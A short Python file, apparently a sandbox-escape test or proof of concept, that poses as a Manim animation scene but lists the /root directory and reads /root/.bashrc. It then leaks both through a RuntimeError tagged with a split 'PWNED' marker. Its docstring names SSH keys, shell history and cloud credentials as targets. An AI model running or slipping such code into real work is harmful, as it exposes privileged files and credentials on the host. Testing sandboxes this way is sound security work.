"""List and read the root user's home (SSH keys, shell history, cloud credentials)."""
from manim import *
import os

PWNED = "PWN" + "ED!"


class ReadRootHome(Scene):
    def construct(self):
        names = os.listdir("/root")
        data = open("/root/.bashrc").read()
        raise RuntimeError(f"{PWNED} {names} {data}")
